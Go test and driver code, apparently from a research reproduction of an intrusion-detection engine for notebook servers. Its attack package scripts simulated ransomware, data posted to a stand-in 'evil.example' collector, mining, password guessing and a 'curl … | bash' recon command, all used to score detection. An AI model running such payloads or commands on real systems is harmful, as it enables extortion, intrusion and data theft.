	for i := 0; i < 8 && !caught; i++ {
		alerts := eng.Process(trace.Event{
			Time: base.Add(time.Hour).Add(time.Duration(i) * 35 * time.Second),
			Kind: trace.KindFileOp, Op: "write", User: "mallory",
			Target:  "notebooks/nb" + string(rune('a'+i)) + ".ipynb",
			Entropy: 7.9, Bytes: 20000, Success: true,
		})
		for _, a := range alerts {
			if a.Class == rules.ClassRansomware {
				caught = true
				filesBefore = i
			}
		}
	}
	if !caught {
		t.Fatal("paced sweep evaded the full engine")
	}
	if filesBefore != 0 {
		t.Fatalf("entropy-jump caught at file %d, want 0 (first overwrite)", filesBefore)
	}
}

func TestJitteredLowSlowStillEvades(t *testing.T) {
	// Honest negative result: an adversary who knows the low-slow
	// detector keys on pacing regularity can add jitter and stay under
	// its CV bound. This test pins the residual gap the paper predicts
	// ("this is a cat-and-mouse game") — the detector is not claimed
	// to close it.
	eng := MustEngine()
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	offsets := []int{0, 45, 71, 160, 199, 301, 333, 404, 477, 560, 599, 705, 790, 860, 930}
	evaded := true
	for _, off := range offsets {
		alerts := eng.Process(trace.Event{
			Time: base.Add(time.Duration(off) * time.Second),
			Kind: trace.KindHTTP, Method: "GET", Path: "/api/kernels",
			Status: 403, SrcIP: "203.0.113.200", Success: false,
		})
		for _, a := range alerts {
			if a.RuleID == "ANOM-DS-low-slow" {
				evaded = false
			}
		}
	}
	if !evaded {
		t.Fatal("jittered train unexpectedly caught — update EXPERIMENTS.md E17 if the detector improved")
	}
}
