package core

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/rules"
	"repro/internal/trace"
	"repro/internal/workload"
)

// alertKey flattens an alert's identity for set comparison, the same
// fingerprint internal/rules/race_test.go uses.
func alertKey(a rules.Alert) string {
	return fmt.Sprintf("%s|%s|%d|%s", a.RuleID, a.Group, a.Count, a.Time.UTC().Format(time.RFC3339Nano))
}

func sortedAlertKeys(alerts []rules.Alert) []string {
	keys := make([]string, len(alerts))
	for i, a := range alerts {
		keys[i] = alertKey(a)
	}
	sort.Strings(keys)
	return keys
}

// incidentKey flattens an incident's full identity — actor, class,
// window, severity, risk, and the exact alert set — so incident-set
// equality means the sharded engine correlated precisely what the
// serial one did.
func incidentKey(inc *Incident) string {
	return fmt.Sprintf("%s|%s|%s|%s|%s|%.2f|%d|%s",
		inc.Actor, inc.Class,
		inc.Opened.UTC().Format(time.RFC3339Nano),
		inc.LastAlert.UTC().Format(time.RFC3339Nano),
		inc.Severity, inc.RiskScore, len(inc.Alerts),
		strings.Join(sortedAlertKeys(inc.Alerts), ","))
}

func sortedIncidentKeys(incs []*Incident) []string {
	keys := make([]string, len(incs))
	for i, inc := range incs {
		keys[i] = incidentKey(inc)
	}
	sort.Strings(keys)
	return keys
}

func requireSameSets(t *testing.T, label string, want, got []string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: %d entries, want %d", label, len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("%s diverges at %d:\nserial  %s\nsharded %s", label, i, want[i], got[i])
		}
	}
}

// TestShardedCoreMatchesSerial is the core acceptance test of the
// sharded refactor: actor-sharded parallel replay of the full mixed
// workload must produce exactly the alert set AND the incident set of
// a serial run, per the determinism guarantees in DESIGN.md.
func TestShardedCoreMatchesSerial(t *testing.T) {
	tr := workload.StandardMix(23, 900)

	serial := MustEngine()
	for _, e := range tr.Events {
		serial.Process(e)
	}
	wantAlerts := sortedAlertKeys(serial.Alerts())
	wantIncidents := sortedIncidentKeys(serial.Incidents())
	if len(wantIncidents) == 0 {
		t.Fatal("serial run produced no incidents; trace too small")
	}

	for _, workers := range []int{1, 8} {
		sharded := MustEngine()
		workload.Replay(tr.Events, workers, 128, func(b []trace.Event) {
			sharded.ProcessBatch(b)
		})
		requireSameSets(t, fmt.Sprintf("workers=%d alerts", workers),
			wantAlerts, sortedAlertKeys(sharded.Alerts()))
		requireSameSets(t, fmt.Sprintf("workers=%d incidents", workers),
			wantIncidents, sortedIncidentKeys(sharded.Incidents()))
		if got, want := sharded.Stats().Events, serial.Stats().Events; got != want {
			t.Fatalf("workers=%d: events = %d, want %d", workers, got, want)
		}
		// Canonical snapshot IDs must match too: same order, same
		// numbering, no arrival-order artifacts.
		si, pi := serial.Incidents(), sharded.Incidents()
		for i := range si {
			if si[i].ID != pi[i].ID || si[i].Actor != pi[i].Actor || si[i].Class != pi[i].Class {
				t.Fatalf("workers=%d: incident %d = %s/%s/%s, want %s/%s/%s",
					workers, i, pi[i].ID, pi[i].Actor, pi[i].Class, si[i].ID, si[i].Actor, si[i].Class)
			}
		}
	}
}

// TestConcurrentEngineRace drives 16 goroutines — each one actor's
// in-order stream — through a single engine under the race detector
// and demands alert- and incident-set equality with a serial run,
// mirroring internal/rules/race_test.go.
func TestConcurrentEngineRace(t *testing.T) {
	const goroutines = 16
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

	streams := make([][]trace.Event, goroutines)
	for i := range streams {
		user := fmt.Sprintf("user-%02d", i)
		at := func(j int) time.Time { return base.Add(time.Duration(j) * time.Second) }
		var evs []trace.Event
		// Ransomware-shaped: exec marker + high-entropy write burst.
		evs = append(evs, trace.Event{Time: at(0), Kind: trace.KindExec, User: user,
			Code: "encrypt(read_file(f), k)", Success: true})
		for j := 0; j < 6; j++ {
			evs = append(evs, trace.Event{Time: at(1 + j), Kind: trace.KindFileOp, Op: "write",
				User: user, Target: fmt.Sprintf("nb-%s-%d", user, j), Entropy: 7.9, Success: true})
		}
		// Exfil-shaped: one oversized upload.
		evs = append(evs, trace.Event{Time: at(10), Kind: trace.KindNetOp, Op: "POST",
			User: user, Target: "http://collector.evil.example/drop",
			Bytes: 4 << 20, Entropy: 7.8, Success: true})
		streams[i] = evs
	}

	serial := MustEngine()
	for _, st := range streams {
		for _, e := range st {
			serial.Process(e)
		}
	}

	concurrent := MustEngine()
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func(st []trace.Event) {
			defer wg.Done()
			for _, e := range st {
				concurrent.Process(e)
			}
		}(streams[i])
	}
	wg.Wait()

	requireSameSets(t, "alerts",
		sortedAlertKeys(serial.Alerts()), sortedAlertKeys(concurrent.Alerts()))
	requireSameSets(t, "incidents",
		sortedIncidentKeys(serial.Incidents()), sortedIncidentKeys(concurrent.Incidents()))
	if got, want := concurrent.Stats(), serial.Stats(); got != want {
		t.Fatalf("stats = %+v, want %+v", got, want)
	}
}

// TestOnAlertRunsOutsideLocks is the regression test for the callback
// contract: OnAlert must run outside every shard lock, so a callback
// that re-enters the engine (Stats, Incidents — or anything else)
// must not deadlock. Before the sharded refactor this was only true
// by accident of the single mutex's unlock placement.
func TestOnAlertRunsOutsideLocks(t *testing.T) {
	opts := DefaultOptions()
	var eng *Engine
	var calls int
	var sawIncident bool
	opts.OnAlert = func(a rules.Alert) {
		calls++
		if st := eng.Stats(); st.Alerts == 0 {
			t.Errorf("Stats() inside OnAlert saw no alerts")
		}
		if len(eng.Incidents()) > 0 {
			sawIncident = true
		}
	}
	var err error
	eng, err = NewEngine(opts)
	if err != nil {
		t.Fatal(err)
	}

	done := make(chan struct{})
	go func() {
		defer close(done)
		eng.Process(trace.Event{Time: t0, Kind: trace.KindExec, User: "m", Code: "encrypt(a,b)"})
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("OnAlert re-entering the engine deadlocked")
	}
	if calls == 0 {
		t.Fatal("OnAlert not invoked")
	}
	if !sawIncident {
		t.Fatal("Incidents() inside OnAlert saw no incidents")
	}
}

// TestSetOnAlertSwapsLive checks the copy-on-write callback swap while
// events are in flight.
func TestSetOnAlertSwapsLive(t *testing.T) {
	eng := MustEngine()
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		for i := 0; i < 100; i++ {
			eng.Process(trace.Event{
				Time: t0.Add(time.Duration(i) * time.Second),
				Kind: trace.KindExec, User: "m", Code: "encrypt(a,b)",
			})
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < 100; i++ {
			if i%2 == 0 {
				eng.SetOnAlert(func(rules.Alert) {})
			} else {
				eng.SetOnAlert(nil)
			}
		}
	}()
	wg.Wait()
	if eng.Stats().Alerts == 0 {
		t.Fatal("no alerts fired")
	}
}

// TestReportDeterministicAcrossWorkers pins Report and
// IncidentsByClass over the mixed workload trace for worker counts
// 1, 4, and 8: the rendered report (timestamps held fixed) must be
// byte-identical, and the per-class incident grouping must match.
func TestReportDeterministicAcrossWorkers(t *testing.T) {
	tr := workload.StandardMix(29, 600)
	now := time.Date(2026, 6, 2, 9, 0, 0, 0, time.UTC)

	var wantReport string
	var wantClasses map[string][]string
	for _, workers := range []int{1, 4, 8} {
		eng := MustEngine()
		workload.Replay(tr.Events, workers, 64, func(b []trace.Event) {
			eng.ProcessBatch(b)
		})
		gotReport := eng.Report(now).Render() + RenderIncidentTable(eng.TopByRisk(10))
		gotClasses := map[string][]string{}
		for class, incs := range eng.IncidentsByClass() {
			for _, inc := range incs {
				gotClasses[class] = append(gotClasses[class], incidentKey(inc))
			}
			sort.Strings(gotClasses[class])
		}
		if wantReport == "" {
			wantReport, wantClasses = gotReport, gotClasses
			if len(wantClasses) == 0 {
				t.Fatal("no incident classes on the mixed trace")
			}
			continue
		}
		if gotReport != wantReport {
			t.Fatalf("workers=%d report diverges:\n%s\nvs\n%s", workers, gotReport, wantReport)
		}
		if len(gotClasses) != len(wantClasses) {
			t.Fatalf("workers=%d classes = %d, want %d", workers, len(gotClasses), len(wantClasses))
		}
		for class, want := range wantClasses {
			got := gotClasses[class]
			if len(got) != len(want) {
				t.Fatalf("workers=%d class %s: %d incidents, want %d", workers, class, len(got), len(want))
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("workers=%d class %s incident %d:\n%s\nvs\n%s", workers, class, i, got[i], want[i])
				}
			}
		}
	}
}

// TestShardCountDoesNotChangeResults pins that Options.Shards only
// tunes lock granularity: 1, 4, and 64 shards must produce identical
// alert and incident sets over the mixed trace.
func TestShardCountDoesNotChangeResults(t *testing.T) {
	tr := workload.StandardMix(31, 400)
	var wantAlerts, wantIncidents []string
	for _, shards := range []int{1, 4, 64} {
		opts := DefaultOptions()
		opts.Shards = shards
		eng, err := NewEngine(opts)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range tr.Events {
			eng.Process(e)
		}
		gotAlerts := sortedAlertKeys(eng.Alerts())
		gotIncidents := sortedIncidentKeys(eng.Incidents())
		if wantAlerts == nil {
			wantAlerts, wantIncidents = gotAlerts, gotIncidents
			continue
		}
		requireSameSets(t, fmt.Sprintf("shards=%d alerts", shards), wantAlerts, gotAlerts)
		requireSameSets(t, fmt.Sprintf("shards=%d incidents", shards), wantIncidents, gotIncidents)
	}
}
