package core

import (
	"strings"
	"testing"
	"time"

	"repro/internal/metrics"
	"repro/internal/rules"
	"repro/internal/trace"
	"repro/internal/workload"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func TestDefaultEngineBuilds(t *testing.T) {
	eng, err := NewEngine(DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if eng.RuleCount() < 15 {
		t.Fatalf("rules = %d", eng.RuleCount())
	}
	_ = MustEngine() // must not panic
}

func TestAlertsFeedIncidents(t *testing.T) {
	eng := MustEngine()
	// Three ransomware-ish events by the same actor inside the gap.
	for i := 0; i < 3; i++ {
		eng.Process(trace.Event{
			Time: t0.Add(time.Duration(i) * time.Second),
			Kind: trace.KindExec, User: "mallory",
			Code: "encrypt(read_file(f), k)", Success: true,
		})
	}
	incs := eng.Incidents()
	if len(incs) != 1 {
		t.Fatalf("incidents = %d", len(incs))
	}
	inc := incs[0]
	if inc.Actor != "mallory" || inc.Class != rules.ClassRansomware {
		t.Fatalf("incident = %+v", inc)
	}
	if len(inc.Alerts) != 3 {
		t.Fatalf("alerts in incident = %d", len(inc.Alerts))
	}
	if inc.RiskScore <= 0 {
		t.Fatal("no risk score")
	}
}

func TestIncidentGapSplits(t *testing.T) {
	opts := DefaultOptions()
	opts.IncidentGap = time.Minute
	eng, _ := NewEngine(opts)
	eng.Process(trace.Event{Time: t0, Kind: trace.KindExec, User: "m", Code: "encrypt(a,b)"})
	eng.Process(trace.Event{Time: t0.Add(time.Hour), Kind: trace.KindExec, User: "m", Code: "encrypt(a,b)"})
	if got := len(eng.Incidents()); got != 2 {
		t.Fatalf("incidents = %d, want 2 (gap split)", got)
	}
}

func TestSeparateActorsSeparateIncidents(t *testing.T) {
	eng := MustEngine()
	eng.Process(trace.Event{Time: t0, Kind: trace.KindExec, User: "m1", Code: "encrypt(a,b)"})
	eng.Process(trace.Event{Time: t0, Kind: trace.KindExec, User: "m2", Code: "encrypt(a,b)"})
	if got := len(eng.Incidents()); got != 2 {
		t.Fatalf("incidents = %d", got)
	}
}

func TestSeverityEscalation(t *testing.T) {
	eng := MustEngine()
	// RW-001 (high) then RW-002 (critical) for the same actor.
	eng.Process(trace.Event{Time: t0, Kind: trace.KindExec, User: "m", Code: "encrypt(a,b)"})
	eng.Process(trace.Event{
		Time: t0.Add(time.Second), Kind: trace.KindFileOp, Op: "create",
		User: "m", Target: "README_RANSOM.txt", Success: true,
	})
	incs := eng.Incidents()
	if len(incs) != 1 || incs[0].Severity != rules.SevCritical {
		t.Fatalf("incidents = %+v", incs)
	}
}

func TestOnAlertHook(t *testing.T) {
	opts := DefaultOptions()
	var n int
	opts.OnAlert = func(rules.Alert) { n++ }
	eng, _ := NewEngine(opts)
	eng.Emit(trace.Event{Time: t0, Kind: trace.KindExec, User: "m", Code: "encrypt(a,b)"})
	if n == 0 {
		t.Fatal("OnAlert not invoked")
	}
}

func TestHotRuleLoad(t *testing.T) {
	eng := MustEngine()
	err := eng.AddRule(&rules.Rule{
		ID: "INTEL-1", Class: rules.ClassZeroDay, Severity: rules.SevHigh,
		Conditions: []rules.Condition{{Field: "code", Contains: "magic-payload-xyz"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	alerts := eng.Process(trace.Event{Time: t0, Kind: trace.KindExec, User: "m", Code: "magic-payload-xyz"})
	found := false
	for _, a := range alerts {
		if a.RuleID == "INTEL-1" {
			found = true
		}
	}
	if !found {
		t.Fatal("intel rule did not fire")
	}
}

func TestReportRender(t *testing.T) {
	eng := MustEngine()
	eng.Process(trace.Event{Time: t0, Kind: trace.KindExec, User: "m", Code: "encrypt(a,b)"})
	rep := eng.Report(t0.Add(time.Minute))
	if len(rep.Classes) != 1 || rep.Classes[0].Class != rules.ClassRansomware {
		t.Fatalf("report = %+v", rep)
	}
	text := rep.Render()
	if !strings.Contains(text, "ransomware") || !strings.Contains(text, "CLASS") {
		t.Fatalf("render = %s", text)
	}
}

// TestPrecisionRecallMatrix is experiment E14: the engine must detect
// every attack class in the standard mixed trace while keeping benign
// users clean enough for precision ≥ 0.8 overall.
func TestPrecisionRecallMatrix(t *testing.T) {
	tr := workload.StandardMix(7, 600)
	eng := MustEngine()
	for _, e := range tr.Events {
		eng.Process(e)
	}

	detected := map[string]map[string]bool{}
	for _, inc := range eng.Incidents() {
		if detected[inc.Actor] == nil {
			detected[inc.Actor] = map[string]bool{}
		}
		detected[inc.Actor][inc.Class] = true
	}
	truth := tr.MaliciousActors()
	scores := metrics.Score(truth, detected)

	t.Logf("trace: %d events, %d labels\n%s", len(tr.Events), len(tr.Labels),
		metrics.RenderScores(scores))

	// Recall: every injected attack class must be caught.
	for class, c := range scores {
		if c.Recall() < 1.0 {
			t.Errorf("class %s recall = %.2f (missed attacks)", class, c.Recall())
		}
	}
	// Precision: aggregate false positives bounded.
	var tp, fp int
	for _, c := range scores {
		tp += c.TP
		fp += c.FP
	}
	precision := float64(tp) / float64(tp+fp)
	if precision < 0.8 {
		t.Errorf("aggregate precision = %.2f (too many false positives)", precision)
	}
	// No benign user may be flagged for ransomware (the costliest FP).
	for _, user := range []string{"alice", "bob", "carol", "dave"} {
		if detected[user][rules.ClassRansomware] {
			t.Errorf("benign user %s flagged for ransomware", user)
		}
	}
}

func TestStatsAccumulate(t *testing.T) {
	eng := MustEngine()
	for i := 0; i < 10; i++ {
		eng.Process(trace.Event{Time: t0.Add(time.Duration(i) * time.Second), Kind: trace.KindHTTP, Status: 200, Success: true})
	}
	st := eng.Stats()
	if st.Events != 10 {
		t.Fatalf("events = %d", st.Events)
	}
}

func TestActorAttributionFallbacks(t *testing.T) {
	eng := MustEngine()
	// Alert with only source IP.
	eng.Process(trace.Event{
		Time: t0, Kind: trace.KindTermCmd, Code: "whoami", SrcIP: "203.0.113.5", Success: true,
	})
	incs := eng.Incidents()
	if len(incs) != 1 || incs[0].Actor != "203.0.113.5" {
		t.Fatalf("incidents = %+v", incs)
	}
}
