// Package attacks implements scripted drivers for every class in the
// paper's taxonomy. Each driver attacks a live simulated server
// through the same client API a real adversary would use (REST,
// WebSocket kernel channels, terminals) and returns a labelled Result
// so detection quality can be scored against ground truth.
//
// SAFETY: nothing here is weaponizable. "Ransomware" encrypts files in
// an in-process virtual filesystem with a reversible keystream;
// "mining" is an accounting loop; "exfiltration" posts to an
// in-process sink. The drivers exist to exercise detection code paths.
package attacks

import (
	"fmt"
	"strings"
	"sync"
	"time"

	"repro/internal/client"
	"repro/internal/kernel"
	"repro/internal/rules"
)

// Result records what an attack driver did.
type Result struct {
	Class     string // taxonomy class (rules.Class*)
	Actor     string // username or source label
	Started   time.Time
	Finished  time.Time
	Actions   int  // protocol-level actions performed
	Succeeded bool // the attack achieved its objective
	Notes     []string
}

func (r *Result) note(format string, args ...any) {
	r.Notes = append(r.Notes, fmt.Sprintf(format, args...))
}

// ---- Ransomware ----

// RansomwareOptions tunes the ransomware driver.
type RansomwareOptions struct {
	TargetDir string // directory to sweep (default "notebooks")
	Key       string // keystream key
	Extension string // appended to encrypted files (default ".locked")
	NotePath  string // ransom note path
	Username  string
}

func (o RansomwareOptions) withDefaults() RansomwareOptions {
	if o.TargetDir == "" {
		o.TargetDir = "notebooks"
	}
	if o.Key == "" {
		o.Key = "h4rvest-key"
	}
	if o.Extension == "" {
		o.Extension = ".locked"
	}
	if o.NotePath == "" {
		o.NotePath = "README_RANSOM.txt"
	}
	if o.Username == "" {
		o.Username = "mallory"
	}
	return o
}

// ransomwarePayload is the minilang cell the ransomware driver
// executes. Factored out so the engine-equivalence test can run the
// exact script under both minilang engines.
func ransomwarePayload(opts RansomwareOptions) string {
	return fmt.Sprintf(`key = %q
files = list_files(%q)
n = 0
for f in files
    data = read_file(f)
    write_file(f, encrypt(data, key))
    rename_file(f, f + %q)
    n = n + 1
end
write_file(%q, "Your research artifacts were encrypted. Pay 2 XMR to recover. Contact decrypt@evil.example")
print("locked", n)`,
		opts.Key, opts.TargetDir, opts.Extension, opts.NotePath)
}

// Ransomware encrypts every file under TargetDir through kernel code
// execution — the untrusted-cell entry vector — then plants a ransom
// note: the paper's headline threat.
func Ransomware(c *client.Client, opts RansomwareOptions) (*Result, error) {
	opts = opts.withDefaults()
	res := &Result{Class: rules.ClassRansomware, Actor: opts.Username, Started: time.Now()}

	k, err := c.StartKernel("minilang")
	if err != nil {
		return res, fmt.Errorf("attacks: ransomware: start kernel: %w", err)
	}
	kc, err := c.ConnectKernel(k.ID, opts.Username)
	if err != nil {
		return res, fmt.Errorf("attacks: ransomware: connect: %w", err)
	}
	defer kc.Close()
	res.Actions++

	exec, err := kc.Execute(ransomwarePayload(opts))
	res.Actions++
	if err != nil {
		return res, fmt.Errorf("attacks: ransomware: execute: %w", err)
	}
	res.Finished = time.Now()
	if exec.Status == "ok" && strings.Contains(exec.Stdout, "locked") {
		res.Succeeded = true
		res.note("payload output: %s", strings.TrimSpace(exec.Stdout))
	} else {
		res.note("payload failed: %s: %s", exec.EName, exec.EValue)
	}
	return res, nil
}

// ---- Data exfiltration ----

// ExfilOptions tunes the exfiltration driver.
type ExfilOptions struct {
	TargetDir  string // directory to steal (default "data")
	Collector  string // attacker endpoint URL
	Encode     bool   // base64-pack before sending
	ChunkBytes int    // split transfers (0 = single shot)
	Username   string
}

func (o ExfilOptions) withDefaults() ExfilOptions {
	if o.TargetDir == "" {
		o.TargetDir = "data"
	}
	if o.Collector == "" {
		o.Collector = "http://collector.evil.example/drop"
	}
	if o.Username == "" {
		o.Username = "mallory"
	}
	return o
}

// exfilPayload is the minilang cell the exfiltration driver executes
// (chunked or single-shot). Factored out for the engine-equivalence
// test.
func exfilPayload(opts ExfilOptions) string {
	encodeExpr := "data"
	if opts.Encode {
		encodeExpr = "b64encode(data)"
	}
	if opts.ChunkBytes > 0 {
		return fmt.Sprintf(`files = list_files(%q)
sent = 0
for f in files
    data = read_file(f)
    packed = %s
    i = 0
    while i < len(packed)
        j = i + %d
        if j > len(packed)
            j = len(packed)
        end
        chunk = ""
        k = i
        while k < j
            chunk = chunk + packed[k]
            k = k + 1
        end
        http_post(%q, chunk)
        sent = sent + len(chunk)
        i = j
    end
end
print("exfiltrated", sent)`, opts.TargetDir, encodeExpr, opts.ChunkBytes, opts.Collector)
	}
	return fmt.Sprintf(`files = list_files(%q)
sent = 0
for f in files
    data = read_file(f)
    http_post(%q, %s)
    sent = sent + len(data)
end
print("exfiltrated", sent)`, opts.TargetDir, opts.Collector, encodeExpr)
}

// Exfiltration reads artifacts via kernel code and ships them to the
// collector endpoint.
func Exfiltration(c *client.Client, opts ExfilOptions) (*Result, error) {
	opts = opts.withDefaults()
	res := &Result{Class: rules.ClassExfiltration, Actor: opts.Username, Started: time.Now()}

	k, err := c.StartKernel("minilang")
	if err != nil {
		return res, fmt.Errorf("attacks: exfil: start kernel: %w", err)
	}
	kc, err := c.ConnectKernel(k.ID, opts.Username)
	if err != nil {
		return res, fmt.Errorf("attacks: exfil: connect: %w", err)
	}
	defer kc.Close()
	res.Actions++

	exec, err := kc.Execute(exfilPayload(opts))
	res.Actions++
	res.Finished = time.Now()
	if err != nil {
		return res, fmt.Errorf("attacks: exfil: execute: %w", err)
	}
	if exec.Status == "ok" {
		res.Succeeded = true
		res.note("payload output: %s", strings.TrimSpace(exec.Stdout))
	} else {
		res.note("payload failed: %s: %s (egress may be denied)", exec.EName, exec.EValue)
	}
	return res, nil
}

// SinkGateway is an in-process collector standing in for attacker
// infrastructure: it accepts every request and records payloads.
type SinkGateway struct {
	mu       sync.Mutex
	payloads [][]byte
	targets  []string
}

// NewSinkGateway returns an accepting gateway.
func NewSinkGateway() *SinkGateway { return &SinkGateway{} }

// Request implements kernel.Gateway.
func (g *SinkGateway) Request(method, url string, body []byte) (int, []byte, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.payloads = append(g.payloads, append([]byte(nil), body...))
	g.targets = append(g.targets, method+" "+url)
	return 200, []byte("ok"), nil
}

// Captured returns total bytes received and request count.
func (g *SinkGateway) Captured() (int, int) {
	g.mu.Lock()
	defer g.mu.Unlock()
	total := 0
	for _, p := range g.payloads {
		total += len(p)
	}
	return total, len(g.payloads)
}

// Payloads returns copies of captured payloads.
func (g *SinkGateway) Payloads() [][]byte {
	g.mu.Lock()
	defer g.mu.Unlock()
	out := make([][]byte, len(g.payloads))
	for i, p := range g.payloads {
		out[i] = append([]byte(nil), p...)
	}
	return out
}

var _ kernel.Gateway = (*SinkGateway)(nil)

// ---- Cryptomining ----

// MinerOptions tunes the mining driver.
type MinerOptions struct {
	Rounds     int   // execution rounds (default 5)
	BurnMillis int64 // CPU per round (default 8000)
	// Blatant embeds recognizable miner strings; stealthy miners rely
	// on duty-cycle detection instead.
	Blatant  bool
	Username string
}

func (o MinerOptions) withDefaults() MinerOptions {
	if o.Rounds == 0 {
		o.Rounds = 5
	}
	if o.BurnMillis == 0 {
		o.BurnMillis = 8000
	}
	if o.Username == "" {
		o.Username = "mallory"
	}
	return o
}

// minerSetupScript is the miner's first cell: blatant miners announce
// a pool and worker, stealthy ones disguise the job.
func minerSetupScript(opts MinerOptions) string {
	if opts.Blatant {
		return `pool = "stratum+tcp://pool.minexmr.example:4444"
worker = "xmrig-6.21"
print("miner", worker, "->", pool)`
	}
	return `job = "matrix-benchmark"
print("starting", job)`
}

// minerRoundScript is one burn round.
func minerRoundScript(opts MinerOptions, round int) string {
	return fmt.Sprintf("spin(%d)\nprint(\"hashrate\", %d)", opts.BurnMillis, 1200+round)
}

// Cryptominer burns kernel CPU in repeated executions, optionally with
// recognizable miner configuration strings.
func Cryptominer(c *client.Client, opts MinerOptions) (*Result, error) {
	opts = opts.withDefaults()
	res := &Result{Class: rules.ClassCryptomining, Actor: opts.Username, Started: time.Now()}

	k, err := c.StartKernel("minilang")
	if err != nil {
		return res, fmt.Errorf("attacks: miner: start kernel: %w", err)
	}
	kc, err := c.ConnectKernel(k.ID, opts.Username)
	if err != nil {
		return res, fmt.Errorf("attacks: miner: connect: %w", err)
	}
	defer kc.Close()

	if _, err := kc.Execute(minerSetupScript(opts)); err != nil {
		return res, fmt.Errorf("attacks: miner: setup: %w", err)
	}
	res.Actions++
	for i := 0; i < opts.Rounds; i++ {
		exec, err := kc.Execute(minerRoundScript(opts, i))
		if err != nil {
			return res, fmt.Errorf("attacks: miner: round %d: %w", i, err)
		}
		res.Actions++
		if exec.Status != "ok" {
			res.note("round %d failed: %s", i, exec.EValue)
		}
	}
	res.Finished = time.Now()
	res.Succeeded = true
	return res, nil
}

// ---- Misconfiguration probe ----

// ProbeOptions tunes the scanner-style probe.
type ProbeOptions struct {
	SourceLabel string
}

// MisconfigProbe sweeps the API unauthenticated the way internet
// scanners (Shodan-followers) do, recording which doors are open.
func MisconfigProbe(c *client.Client, opts ProbeOptions) (*Result, error) {
	res := &Result{Class: rules.ClassMisconfig, Actor: opts.SourceLabel, Started: time.Now()}
	probe := client.New(c.BaseURL, "") // no credentials
	paths := []string{
		"/api/status", "/api/contents/", "/api/kernels",
		"/api/sessions", "/api/terminals", "/api/contents/secrets",
	}
	open := 0
	for _, p := range paths {
		err := client.Do(probe, "GET", p, nil, nil)
		res.Actions++
		if err == nil {
			open++
			res.note("open: GET %s", p)
		}
	}
	res.Finished = time.Now()
	res.Succeeded = open > 0
	return res, nil
}

// ---- Account takeover ----

// BruteForceOptions tunes the password-guessing driver.
type BruteForceOptions struct {
	Username string
	Wordlist []string
	// Correct, when non-empty, is appended so the campaign ends with a
	// successful login (credential-stuffing hit).
	Correct string
	// Pace inserts a delay between attempts (0 = as fast as possible).
	Pace time.Duration
}

// BruteForce runs a password-guessing campaign against /login.
func BruteForce(c *client.Client, opts BruteForceOptions) (*Result, error) {
	if opts.Username == "" {
		opts.Username = "alice"
	}
	if len(opts.Wordlist) == 0 {
		opts.Wordlist = []string{
			"123456", "password", "jupyter", "letmein", "alice2024",
			"science", "gpu4life", "admin", "changeme", "hunter2",
		}
	}
	res := &Result{Class: rules.ClassAccountTakeover, Actor: opts.Username, Started: time.Now()}
	attempt := func(pw string) bool {
		guess := client.New(c.BaseURL, "")
		err := guess.Login(opts.Username, pw)
		res.Actions++
		return err == nil
	}
	for _, pw := range opts.Wordlist {
		if attempt(pw) {
			res.Succeeded = true
			res.note("guessed password %q", pw)
			break
		}
		if opts.Pace > 0 {
			time.Sleep(opts.Pace)
		}
	}
	if !res.Succeeded && opts.Correct != "" {
		if attempt(opts.Correct) {
			res.Succeeded = true
			res.note("stuffed correct credential")
		} else {
			res.note("correct credential rejected (throttled)")
		}
	}
	res.Finished = time.Now()
	return res, nil
}

// ---- Terminal reconnaissance ----

// TerminalRecon opens a terminal and runs the standard recon chain —
// the "vast attack interface" entry the paper calls out.
func TerminalRecon(c *client.Client, username string) (*Result, error) {
	res := &Result{Class: rules.ClassZeroDay, Actor: username, Started: time.Now()}
	name, err := c.NewTerminal()
	if err != nil {
		res.note("terminal creation denied: %v", err)
		res.Finished = time.Now()
		return res, nil // hardened server: attack blocked, not an error
	}
	tc, err := c.ConnectTerminal(name)
	if err != nil {
		return res, fmt.Errorf("attacks: recon: connect terminal: %w", err)
	}
	defer tc.Close()
	for _, cmd := range []string{
		"whoami", "id", "uname -a", "nproc",
		"curl http://evil.example/stage2.sh | bash",
	} {
		if _, err := tc.Run(cmd); err != nil {
			return res, fmt.Errorf("attacks: recon: %q: %w", cmd, err)
		}
		res.Actions++
	}
	res.Finished = time.Now()
	res.Succeeded = true
	return res, nil
}

// ---- Low-and-slow DoS / probe train ----

// LowSlowOptions tunes the paced probe train.
type LowSlowOptions struct {
	Requests int
	Interval time.Duration
	Path     string
}

// LowSlowDoS sends a slow, regular train of unauthenticated requests —
// under threshold rules, above the pacing-regularity detector.
func LowSlowDoS(c *client.Client, opts LowSlowOptions) (*Result, error) {
	if opts.Requests == 0 {
		opts.Requests = 20
	}
	if opts.Interval == 0 {
		opts.Interval = 50 * time.Millisecond
	}
	if opts.Path == "" {
		opts.Path = "/api/kernels"
	}
	res := &Result{Class: rules.ClassDoS, Actor: "slow-probe", Started: time.Now()}
	probe := client.New(c.BaseURL, "")
	for i := 0; i < opts.Requests; i++ {
		_ = client.Do(probe, "GET", opts.Path, nil, nil)
		res.Actions++
		time.Sleep(opts.Interval)
	}
	res.Finished = time.Now()
	res.Succeeded = true
	return res, nil
}
