package attacks

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/kernel"
	"repro/internal/kernel/minilang"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/trace"
	"repro/internal/vfs"
	"repro/internal/workload"
)

// The minilang VM must be invisible to the detection pipeline: every
// attack script, run under the tree interpreter and under the VM,
// must produce the byte-identical trace-event stream — same host-call
// order, same entropy values, same resource accounting — and
// therefore the byte-identical incident tables, at any replay worker
// count. These tests pin that end to end.

